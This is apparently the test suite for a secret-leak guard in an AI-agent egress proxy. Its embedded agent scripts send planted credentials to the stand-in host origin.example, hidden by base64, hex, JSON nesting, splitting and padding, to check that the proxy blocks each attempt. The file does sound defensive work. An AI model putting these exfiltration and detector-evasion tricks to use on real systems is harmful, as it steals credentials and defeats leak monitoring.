"""Registered values do not leave, through ``run`` and the service, and we write none of them."""

from __future__ import annotations

import base64
import http.server
import json
import os
import resource
import signal
import ssl
import subprocess
import sys
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from datetime import UTC, datetime
from pathlib import Path

import pytest
from drawn_secrets import drawn
from isolation_probe import run_options

from aesp_proxy import keys
from aesp_proxy.model.record import RecordKind
from aesp_proxy.record.reader import read_state

PROGRAM = Path(sys.executable).parent / "aesp-proxy"
HOST = "origin.example"
WAIT_S = 60.0
POLICY = f"""\
version: "1.2.0"
name: registered
guards:
  egress_allowlist: {{default_action: block, allow: [{HOST}]}}
  secret_leak: {{enabled: true}}
"""
AGENT = """
import base64, json, os, sys, urllib.error, urllib.request as u
def send(body):
    try:
        return u.urlopen(u.Request("https://origin.example/in", data=body)).status
    except urllib.error.HTTPError as error:
        return error.code
values = json.loads(os.environ["GIVEN"])
wraps = {
    "plain": lambda v: v,
    "base64": lambda v: base64.b64encode(b"ab" + v),
    "hex": lambda v: v.hex().encode(),
    "json": lambda v: json.dumps(json.dumps({"k": v.decode()})).encode(),
    "half": lambda v: v[len(v) // 2:],
}
said = {f"{name}/{wrap}": send(b"before " + make(v.encode()) + b" after")
        for name, v in values.items() for wrap, make in wraps.items()}
said["honest"] = send(b"nothing of the kind")
print(json.dumps(said))
"""


class _Origin(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    seen = bytearray()

    def do_POST(self) -> None:
        type(self).seen += self.rfile.read(int(self.headers["Content-Length"]))
        self.send_response(200)
        self.send_header("Content-Length", "0")
        self.end_headers()

    def log_message(self, *_: object) -> None:
        pass


@dataclass
class Place:
    """A policy, a home with credentials, a state directory, and an origin that remembers."""

    folder: Path
    values: dict[str, str] = field(default_factory=dict)

    @property
    def state(self) -> Path:
        return self.folder / "state"

    def run(self, *words: str, options: tuple[str, ...] = (), **environ: str):
        own = ["--config", str(self.folder / "config.yaml"), *run_options(), *options]
        return subprocess.run(
            [str(PROGRAM), "run", *own, "--", *words],
            env={"PATH": os.environ["PATH"], "HOME": str(self.folder / "home"), **environ},
            cwd=self.folder,
            timeout=WAIT_S,
            check=False,
            text=True,
            capture_output=True,
        )

    def written(self) -> bytes:
        """Every byte of every file in the state directory."""
        return b"".join(p.read_bytes() for p in self.state.rglob("*") if p.is_file())


@pytest.fixture(scope="module")
def place(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Place]:
    folder = tmp_path_factory.mktemp("registered")
    now = datetime.now(UTC)
    root_cert, root_key = keys.make_ca("the origin's roots", now=now)
    pair = keys.KeyPair(cert_pem=root_cert, key_pem=root_key)
    cert, key = keys.issue_leaf(pair, [HOST], purpose=keys.Purpose.SERVER, now=now, days=1)
    (folder / "origin.pem").write_bytes(key + cert)
    (folder / "roots.pem").write_bytes(pair.cert_pem)
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(folder / "origin.pem")
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Origin)
    server.daemon_threads = True
    server.socket = context.wrap_socket(server.socket, server_side=True)
    (folder / "policy.yaml").write_text(POLICY)
    (folder / "config.yaml").write_text(
        "policy: policy.yaml\nstate_dir: state\nupstream:\n  ca_file: roots.pem\n"
        f"  resolve: {{'{HOST}:443': '127.0.0.1:{server.server_port}'}}\n"
    )
    made = Place(folder)
    made.values = {
        "DEPLOY_TOKEN": drawn(40), "DB_PASSWORD": drawn(14), "AWS": drawn(40), "NPM": drawn(36),
        "DOCKER": drawn(20), "DOTENV_SECRET": drawn(32),
    }  # fmt: skip
    home = folder / "home"
    for name in (".aws", ".docker"):
        (home / name).mkdir(parents=True)
    (home / ".aws/credentials").write_text(
        f"[default]\naws_access_key_id = AKIA{'X' * 16}\n"
        f"aws_secret_access_key = {made.values['AWS']}\n"
    )
    (home / ".npmrc").write_text(f"//registry.example/:_authToken={made.values['NPM']}\n")
    auth = base64.b64encode(f"me:{made.values['DOCKER']}".encode()).decode()
    (home / ".docker/config.json").write_text(json.dumps({"auths": {"r.example": {"auth": auth}}}))
    (folder / "app.env").write_text(
        f"PORT=8080\nexport APP_SECRET='{made.values['DOTENV_SECRET']}'\nAPI_KEY=changeme\n"
    )
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    try:
        yield made
    finally:
        server.shutdown()
        server.server_close()
        thread.join()


def test_values_of_the_environment_and_of_credential_files_do_not_leave_in_any_wrapping(place):
    values = place.values
    ran = place.run(
        sys.executable, "-c", AGENT,
        options=("--secrets-from", "file:app.env"),
        DEPLOY_TOKEN=values["DEPLOY_TOKEN"],
        DATABASE_URL=f"postgres://me:{values['DB_PASSWORD']}@db.example/app",
        DEBUG_TOKEN="true",
        GIVEN=json.dumps(values),
    )  # fmt: skip
    assert ran.returncode == 0, ran.stderr
    said = json.loads(ran.stdout.splitlines()[0])
    assert said.pop("honest") == 200
    # Half of a value under 36 bytes is not known.
    short = {f"{name}/half" for name, value in values.items() if len(value) < 48}
    passed = {name for name, status in said.items() if status != 403}
    assert passed <= short, passed
    assert "DEPLOY_TOKEN" in ran.stderr
    assert "DATABASE_URL" in ran.stderr
    assert "not registered: API_KEY" in ran.stderr
    assert "PORT" not in ran.stderr
    whole = ran.stderr.encode() + ran.stdout.encode() + place.written() + bytes(_Origin.seen)
    for name, value in values.items():
        for form in (value, base64.b64encode(value.encode()).decode(), value.encode().hex()):
            assert form.encode() not in whole, name
    records = [record for _, record in read_state(place.state)]
    told = [one for one in records if one.event_type == "secrets.registered"]
    assert "DEPLOY_TOKEN" in told[0].message
    found = {f.rule for one in records if one.kind is RecordKind.DECISION for f in one.findings}
    assert {"registered:DEPLOY_TOKEN", "registered:DATABASE_URL"} <= found


PARTS = """
import json, os, urllib.error, urllib.request as u
def send(path, fields, body):
    try:
        request = u.Request("https://origin.example" + path, data=body, headers=fields)
        return u.urlopen(request).status
    except urllib.error.HTTPError as error:
        return error.code
value = os.environ["DEPLOY_TOKEN"]
one, two, three, four = (value[at:at + 10] for at in range(0, 40, 10))
print(json.dumps([
    send("/in/x" + three, {}, b"-"),
    send("/in", {"X-Note": "a" + one + "b"}, b"-"),
    send("/in", {}, b"lorem " * 3000 + two.encode() + b" ipsum" * 3000),
    send("/in", {}, b"[" + four.encode() + b"]"),
    send("/in", {}, b"honest"),
]))
"""


def test_parts_of_a_value_in_unlike_requests_are_stopped(place):
    ran = place.run(sys.executable, "-c", PARTS, DEPLOY_TOKEN=place.values["DEPLOY_TOKEN"])
    assert ran.returncode == 0, ran.stderr
    said = json.loads(ran.stdout.splitlines()[0])
    assert said[:2] == [200, 200]
    assert 403 in said[2:4]
    assert said[4] == 200
    records = [record for _, record in read_state(place.state)]
    pieces = [f for one in records for f in one.findings if f.location == "pieces"]
    assert {finding.rule for finding in pieces} == {"registered:DEPLOY_TOKEN"}


APART = """
import json, os, urllib.error, urllib.request as u
value = os.environ["DEPLOY_TOKEN"].encode()
def send(body):
    try:
        return u.urlopen(u.Request("https://origin.example/in", data=b"see " + body)).status
    except urllib.error.HTTPError as error:
        return error.code
print(json.dumps([
    send(" ".join(map(str, value)).encode()),
    send(value.hex("-").encode()),
    send(b"\\n-\\n".join(bytes((c,)) for c in value)),
    send(b"honest"),
]))
"""


def test_a_value_that_is_taken_apart_does_not_leave(place):
    ran = place.run(sys.executable, "-c", APART, DEPLOY_TOKEN=place.values["DEPLOY_TOKEN"])
    assert ran.returncode == 0, ran.stderr
    assert json.loads(ran.stdout.splitlines()[0]) == [403, 403, 403, 200]


CHANGED = """
import os, pathlib, sys, urllib.error, urllib.request as u
def send(body):
    try:
        return u.urlopen(u.Request("https://origin.example/in", data=body)).status
    except urllib.error.HTTPError as error:
        return error.code
value = sys.argv[1]
pathlib.Path("later.env").write_text(f"APP_SECRET={value}\\n")
tries = next((n for n in range(3_000) if send(value.encode()) == 403), None)
print("refused" if tries is not None else "never")
"""


def test_a_source_that_changes_is_read_again_while_the_command_runs(place):
    (place.folder / "later.env").write_text(f"APP_SECRET={drawn(32)}\n")
    value = drawn(32)
    ran = place.run(
        sys.executable, "-c", CHANGED, value, options=("--secrets-from", "later.env")
    )  # fmt: skip
    assert ran.stdout.splitlines()[0] == "refused", ran.stderr
    assert ran.stderr.count("APP_SECRET") == 2  # at the start, and when it had changed
    assert value not in ran.stderr


def test_a_run_that_crashes_leaves_no_value_and_its_command_keeps_its_limit(place):
    soft, hard = resource.getrlimit(resource.RLIMIT_CORE)
    wanted = soft if hard != resource.RLIM_INFINITY else 4_096
    own = ["--config", str(place.folder / "config.yaml"), *run_options()]
    value = drawn(40)
    with subprocess.Popen(
        [str(PROGRAM), "run", *own, "--", "sh", "-c", "ulimit -c; read x"],
        env={"PATH": os.environ["PATH"], "HOME": str(place.folder), "CRASH_TOKEN": value},
        cwd=place.folder, stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
        preexec_fn=lambda: resource.setrlimit(resource.RLIMIT_CORE, (wanted, hard)),  # noqa: PLW1509
    ) as running:  # fmt: skip
        told = running.stdout.readline().split()[0]
        kept = resource.prlimit(running.pid, resource.RLIMIT_CORE)[0]
        running.send_signal(signal.SIGSEGV)
        _, err = running.communicate(timeout=WAIT_S)
    assert int(told) == wanted // 512 or int(told) == wanted // 1_024
    assert kept == (1 if hard else 0)
    assert b"CRASH_TOKEN" in err
    assert value.encode() not in err
    assert not [path for path in place.folder.glob("*core*") if path.is_file()]


def test_a_source_that_cannot_be_read_ends_the_start(place):
    ran = place.run("true", options=("--secrets-from", "missing.env"))
    assert ran.returncode == 3
    assert "missing.env" in ran.stderr


def test_nothing_is_registered_that_nobody_asked_for(place):
    ran = place.run(
        sys.executable, "-c", AGENT,
        options=("--set", "secrets.env=", "--set", "secrets.sources="),
        DEPLOY_TOKEN=place.values["DEPLOY_TOKEN"],
        GIVEN=json.dumps({"T": place.values["DEPLOY_TOKEN"]}),
    )  # fmt: skip
    assert json.loads(ran.stdout.splitlines()[0])["T/plain"] == 200
    assert "may not leave" not in ran.stderr
